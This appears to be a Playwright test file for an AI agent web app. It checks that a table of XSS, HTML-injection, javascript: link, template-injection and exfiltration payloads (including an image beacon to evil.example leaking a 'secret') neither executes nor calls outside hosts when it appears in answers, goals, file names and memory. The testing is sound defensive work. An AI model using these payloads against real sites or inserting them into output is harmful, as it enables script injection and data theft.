/** Text of models, tools, files and people is hostile: none of it runs, and none of it leaves its place. */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { call, type Gyre, pace, startGyre, useBrowser, type Visitor, visit } from '../../web/visit.ts'

const attacks: Readonly<Record<string, string>> = {
  script: '<script>window.hit = true</script>',
  handler: '<img src=x onerror="window.hit = true">',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit = true"><script>window.hit = true</script></svg>',
  frame: '<iframe srcdoc="<script>parent.hit = true</script>"></iframe>',
  style: '<style>* { display: none !important }</style><link rel="stylesheet" href="//evil.example/x.css">',
  form: '<form action="https://evil.example"><input autofocus onfocus="window.hit = true"><button>Log in</button></form>',
  link: '[click me](javascript:window.hit=true) [data](data:text/html,<script>hit=true</script>) [out](https://evil.example/x)',
  image: '![pixel](https://evil.example/pixel.png?leak=secret) ![inline](data:image/svg+xml,<svg/onload=hit=true>)',
  base: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  fence:
    '```html\n<script>window.hit = true</script>\n```\n\n```mermaid\nclick A href "javascript:window.hit=true"\n```',
  math: '$\\href{javascript:window.hit=true}{x}$ <math><mi xlink:href="javascript:window.hit=true">x</mi></math>',
  template: '{{constructor.constructor("window.hit = true")()}} #{window.hit = true}',
}

const everything = Object.values(attacks).join('\n\n')

type Started = { readonly id: string; readonly thread: string }

describe('hostile content', () => {
  const browser = useBrowser()
  let gyre: Gyre
  let visitor: Visitor
  const left: string[] = []
  beforeAll(async () => {
    gyre = await startGyre()
    visitor = await visit(browser(), gyre)
    const { page } = visitor
    page.on('request', (request) => left.push(request.url()))
    page.on('dialog', (dialog) => {
      left.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
  })
  afterAll(async () => {
    pace().says = undefined
    await visitor.context.close()
    await gyre.close()
  })

  async function started(says: string, body: object): Promise<Started> {
    pace().says = says
    const session = (await call(visitor.page, 'POST', '/sessions', body)) as Started
    await (await gyre.workplace.runtime.session(session.id)).outcome
    return session
  }

  /** Nothing ran, nothing was asked of anybody else, and the browser had nothing to refuse. */
  async function expectHarmless(page: Page): Promise<void> {
    await page.waitForTimeout(200)
    expect(await page.evaluate(() => (window as { hit?: boolean }).hit)).toBeUndefined()
    expect(left.filter((url) => !url.startsWith(gyre.server.url) && !url.startsWith('data:image/'))).toEqual([])
    expect(visitor.complaints).toEqual([])
  }

  async function see(path: string, words: string): Promise<void> {
    const { page } = visitor
    await page.goto(`${gyre.server.url}${path}`)
    await page.getByText(words).first().waitFor()
    await expectHarmless(page)
  }

  it.each(Object.entries(attacks))('by %s is harmless in an answer, a goal and a prompt', async (_, attack) => {
    const { id, thread } = await started(`Answered. ${attack}`, { loop: 'direct', goal: `Goal. ${attack}` })
    await see(`/chat/${thread}`, 'Answered.')
    await see(`/sessions/${id}`, 'Answered.')
    await see(`/sessions/${id}/steps?step=answer%231`, 'Answered.')
  })

  it('is harmless in lists, the palette and comparisons', async () => {
    const one = await started(everything, { loop: 'direct', goal: `First. ${everything}` })
    const other = await started(everything, { loop: 'cot', goal: `Second. ${everything}` })
    await see('/sessions', 'Second.')
    await see(`/compare?a=${one.id}&b=${other.id}`, 'Second.')
    await visitor.page.keyboard.press('Control+k')
    await visitor.page.getByRole('combobox', { name: /find a goal/i }).fill('script')
    await visitor.page.getByRole('option').first().waitFor()
    await expectHarmless(visitor.page)
  })

  it('is harmless in names of files, documents and memories', async () => {
    const file = { type: 'file', name: `${attacks['handler']}.txt`, mediaType: 'text/plain', data: everything }
    const { thread } = await started('Read.', { loop: 'direct', goal: 'What is in it?', files: [file] })
    await see(`/chat/${thread}`, 'Read.')
    await call(visitor.page, 'POST', '/knowledge/documents', {
      source: `notes/${attacks['handler']}.md`,
      text: everything,
    })
    await see('/admin/knowledge', 'notes/')
    await see('/admin/knowledge?q=script', 'notes/')
    await call(visitor.page, 'POST', '/memory', { text: `Learned. ${everything}` })
    await see('/admin/memory', 'Learned.')
  })
})
